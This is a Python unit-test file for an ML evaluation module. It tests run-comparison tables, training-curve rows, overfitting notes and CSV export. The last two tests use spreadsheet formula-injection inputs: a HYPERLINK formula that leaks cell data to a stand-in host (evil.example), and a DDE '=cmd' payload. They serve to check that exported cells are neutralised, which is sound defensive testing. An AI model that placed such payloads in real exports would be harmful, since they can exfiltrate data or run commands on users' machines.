"""core.evaluate.comparison: the runs table and the curve rows."""

import csv
import io
import math

import pandas as pd
import pytest

from core.evaluate.comparison import (
    comparison_table,
    curve_metrics,
    curve_rows,
    overfitting_note,
    spec_summary,
)
from core.evaluate.spreadsheet import csv_text, spreadsheet_safe
from core.store.records import EPOCHS_DONE, SECONDS_DONE
from tests.unit.test_store import record


def two_runs():
    first = record("20261121-120000-aaaaaa", "first")
    first.hyperparameters = {"model_key": "dense", "optimizer": "adam", "learning_rate": 0.001, "batch_size": 32}
    first.history = {"loss": [0.9, 0.5], "val_loss": [1.0, 0.6], "accuracy": [0.7, 0.8], "precision": [0.1, 0.2]}
    first.metrics = {"test": {"accuracy": 0.81, "loss": 0.55}, "train": {"accuracy": 0.85}}
    second = record("20261121-130000-bbbbbb", "second")
    second.spec = [{"kind": "Rescaling", "scale": 1 / 255, "offset": 0.0}, {"kind": "Flatten"},
                   {"kind": "Dense", "units": 16, "activation": "relu", "l2": 0.0}]
    second.hyperparameters = {"model_key": "custom"}
    second.history = {"loss": [0.8, 0.4, 0.3], "val_loss": [0.7, 0.5, None]}
    second.metrics = {}
    return first, second


def test_table_has_one_row_per_run_with_params_and_metrics():
    frame = comparison_table(two_runs())
    assert frame["run"].tolist() == ["first", "second"]
    assert list(frame.columns[:2]) == ["run", "test accuracy"]  # on screen at 1280 px
    assert frame["epochs"].tolist() == [2, 3]
    # Rescaling + Flatten + output Dense(10) on 28×28×1: 784·10 + 10; the second adds Dense 16.
    assert frame["trainable params"].tolist() == [7850, 784 * 16 + 16 + 16 * 10 + 10]
    assert frame["test accuracy"].iloc[0] == 0.81 and math.isnan(frame["test accuracy"].iloc[1])
    assert frame["model"].tolist() == ["preset dense", "Rescaling → Flatten → Dense"]
    assert frame.sort_values("test accuracy")["run"].tolist() == ["first", "second"]  # NaN sorts last
    assert "first" in frame.to_csv(index=False)


def test_repeated_names_get_the_run_time():
    first, second = two_runs()
    second.name = "first"
    assert comparison_table([first, second])["run"].tolist() == ["first (120000-aaaaaa)", "first (130000-bbbbbb)"]
    assert set(curve_rows([first, second])["run"]) == {"first (120000-aaaaaa)", "first (130000-bbbbbb)"}


def test_curve_rows_are_long_form_with_every_metric_the_history_holds():
    rows = curve_rows(two_runs())
    assert set(rows["metric"]) == {"loss", "accuracy", "precision"}
    assert curve_metrics(two_runs()) == ["loss", "accuracy", "precision"]  # the lessons' two first
    second_validation = rows[(rows["run"] == "second") & (rows["split"] == "validation")]
    assert second_validation["epoch"].tolist() == [1, 2]  # the None epoch is skipped
    assert len(curve_rows([])) == 0


def test_curve_rows_place_each_epoch_in_epochs_share_and_seconds():
    # A 2-epoch run beside a 30-epoch one was squashed into the first 7% of the axis: along "share" both span it.
    short, long = record("20261121-120000-aaaaaa", "short"), record("20261121-130000-bbbbbb", "long")
    short.hyperparameters, long.hyperparameters = {"epochs": 2}, {"epochs": 30}
    short.history = {"loss": [0.9, 0.5], EPOCHS_DONE: [1.0, 2.0], SECONDS_DONE: [3.0, 6.5]}
    long.history = {"loss": [0.5] * 30}  # saved before positions were kept
    long.training_seconds = 60.0
    rows = curve_rows([short, long])
    assert set(rows["metric"]) == {"loss"}  # positions are not curves
    by_run = {run: part for run, part in rows.groupby("run")}
    assert by_run["short"]["share"].max() == by_run["long"]["share"].max() == 1.0
    assert by_run["short"]["seconds"].tolist() == [3.0, 6.5] and by_run["short"]["timed"].all()
    assert by_run["long"]["seconds"].tolist()[:2] == [2.0, 4.0] and not by_run["long"]["timed"].any()


def test_a_run_stopped_mid_epoch_ends_where_it_stopped():
    stopped = record(name="stopped")
    stopped.hyperparameters = {"epochs": 5}
    stopped.history = {"loss": [0.9, 0.7], EPOCHS_DONE: [1.0, 1.47], SECONDS_DONE: [2.0, 2.9]}
    rows = curve_rows([stopped])
    assert rows["epochs"].tolist() == [1.0, 1.47] and rows["epoch"].tolist() == [1, 2]
    assert rows["share"].tolist() == pytest.approx([0.2, 0.294])


def test_overfitting_note_only_when_validation_loss_rises_while_training_loss_falls():
    run = record(name="run")
    run.history = {"loss": [1.0, 0.6, 0.4, 0.3, 0.2], "val_loss": [0.9, 0.5, 0.55, 0.6, 0.7]}
    note = overfitting_note(run)
    assert note and "lowest after epoch 2 (0.500)" in note and "rose to 0.700 over the next 3 epochs" in note
    run.history["val_loss"] = [0.9, 0.5, 0.45, 0.44, 0.43]
    assert overfitting_note(run) is None
    assert spec_summary(run) == "Rescaling → Flatten"


NOISE = {
    # Three classes, losses around ln 3 = 1.0986 and a third right: nothing was learned, nothing memorised.
    "chance level": {"loss": [1.115, 1.101, 1.109, 1.100, 1.098], "accuracy": [0.33, 0.34, 0.32, 0.33, 0.34],
                     "val_loss": [1.099, 1.098, 1.103, 1.104, 1.106], "val_accuracy": [0.33] * 5},
    # Validation loss bounces around its best while training loss wobbles: noise, not a trend.
    "zig-zag": {"loss": [0.50, 0.42, 0.45, 0.40, 0.43, 0.41], "accuracy": [0.85, 0.87, 0.86, 0.88, 0.87, 0.87],
                "val_loss": [0.48, 0.40, 0.46, 0.41, 0.47, 0.43], "val_accuracy": [0.85, 0.88, 0.86, 0.88, 0.85, 0.87]},
}


@pytest.mark.parametrize("case", list(NOISE))
def test_overfitting_note_ignores_noise(case):
    run = record(name=case)
    run.history = NOISE[case]
    assert overfitting_note(run) is None


def test_overfitting_note_fires_on_a_true_overfit():
    run = record(name="overfit")
    run.history = {"loss": [0.60, 0.30, 0.20, 0.12, 0.07, 0.04], "accuracy": [0.80, 0.91, 0.94, 0.97, 0.98, 0.99],
                   "val_loss": [0.45, 0.32, 0.34, 0.38, 0.41, 0.47],
                   "val_accuracy": [0.86, 0.90, 0.90, 0.89, 0.89, 0.88]}
    note = overfitting_note(run)
    assert note and "lowest after epoch 2 (0.320)" in note and "rose to 0.470 over the next 4 epochs" in note
    # The same curves without the rise in training accuracy: not memorising after all.
    run.history["accuracy"] = [0.80, 0.91, 0.91, 0.90, 0.91, 0.91]
    assert overfitting_note(run) is None


def test_the_csv_makes_formulas_plain_text_and_keeps_numbers():
    first, second = two_runs()
    first.name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open results")'
    second.name = "-2+3"
    rows = list(csv.reader(io.StringIO(csv_text(comparison_table([first, second])))))
    names = [row[0] for row in rows[1:]]
    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&B2,"Open results")', "'-2+3"]
    assert rows[1][1] == "0.81"  # a number is still a number
    assert csv_text(pd.DataFrame({"run": ["@SUM(A1)", "\tx", "plain"]})).splitlines()[1:] == ["'@SUM(A1)", "'\tx",
                                                                                             "plain"]


def test_tables_shown_with_streamlits_download_are_safe_in_every_cell_name_and_label():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["+1", 2.5, None]}, index=["@a", "b", "-c"])
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=cmd|' /C calc'!A0"] and list(safe.index) == ["'@a", "b", "'-c"]
    assert safe.iloc[0, 0] == "'+1" and safe.iloc[1, 0] == 2.5 and frame.iloc[0, 0] == "+1"  # a copy
